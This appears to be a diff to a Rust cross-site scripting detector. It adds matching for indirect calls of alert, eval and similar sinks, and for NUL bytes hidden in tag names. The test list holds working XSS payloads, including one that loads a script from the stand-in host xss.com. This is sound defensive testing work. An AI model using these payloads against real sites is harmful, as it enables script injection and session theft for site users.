@@ -552,6 +552,11 @@ fn js_hit(s: &str, c: Classes) -> Option<Hit> {
             }
         }
     }
+    // indirect calls of a sink: `(alert)(1)`, `(0,eval)(x)`, `prompt.call(null,1)`,
+    // `confirm.apply(...)`, `alert.bind()(1)`: the sink is a value, then called
+    if let Some((ps, pe)) = indirect_sink_call(b) {
+        put(85, ps, pe, &mut best);
+    }
     // document['cookie'], window["location"]
     for pat in [
         &b"['cookie"[..],
@@ -625,6 +630,30 @@ fn js_hit(s: &str, c: Classes) -> Option<Hit> {
     best
 }
 
+/// The strong sinks, called through a grouping, `call`, `apply` or `bind`.
+fn indirect_sink_call(b: &[u8]) -> Option<(usize, usize)> {
+    for sink in ["alert", "prompt", "confirm", "eval", "execscript"] {
+        let mut from = 0;
+        while let Some(p) = crate::util::find_ci(&b[from..], sink.as_bytes()) {
+            let at = from + p;
+            from = at + sink.len();
+            let before = if at == 0 { b' ' } else { b[at - 1] };
+            if before.is_ascii_alphanumeric() || matches!(before, b'_' | b'$') {
+                continue;
+            }
+            let rest = &b[from..];
+            let grouped = matches!(before, b'(' | b',') && rest.starts_with(b")(");
+            let method = [&b".call("[..], b".apply(", b".bind("]
+                .iter()
+                .any(|m| starts_with_ci(rest, m));
+            if grouped || method {
+                return Some((at.saturating_sub(1), (from + 7).min(b.len())));
+            }
+        }
+    }
+    None
+}
+
 /// Runs the XSS detector.
 pub fn detect(s: &str, c: Classes) -> Option<Hit> {
     let mut best = None;
@@ -635,6 +664,11 @@ pub fn detect(s: &str, c: Classes) -> Option<Hit> {
             if let std::borrow::Cow::Owned(d) = html_decode(s) {
                 best = html_hit(&d);
             }
+        }
+        if best.is_none() && s.contains('\0') {
+            // NUL bytes inside a tag name (`<scr\0ipt>`), which HTML parsers
+            // of old browsers dropped (CRS's `t:removeNulls`)
+            best = html_hit(&s.replace('\0', ""));
         }
     }
     if best.as_ref().is_none_or(|h: &Hit| h.confidence < 85) {
@@ -673,6 +707,12 @@ mod tests {
             "javascript:alert(1)",
             "self[/al/.source+/ert/.source](/XSS/.source);//",
             ";a=alert;a(1)",
+            "(alert)(1)",
+            "(0,eval)('alert(1)')",
+            "prompt.call(null,1)",
+            "confirm.apply(window,[1])",
+            "alert.bind()(document.domain)",
+            "<<scr\0ipt/src=http://xss.com/xss.js></script",
             "<iframe srcdoc=\"<svg onload=alert(1)>\"></iframe>",
             "<a href=data:text/html;base64,PHNjcmlwdD4=>1</a>",
             "<img src=x onerror=location=atob`amF2YQ==`>",
@@ -691,6 +731,10 @@ mod tests {
             "<img src=\"/logo.png\" alt=\"logo\">",
             "JavaScript: Basics of JavaScript Language",
             "Please confirm (yes/no) your order",
+            "severity levels: (alert) (warning) (info)",
+            "call the alerting team, then evaluate.apply rules",
+            "prompts (alert)",
+            "a\0b <b>bold</b>",
             ">url=/pi?mode=<;>",
             "this[0] = value",
             "I'd like to print (two) copies",
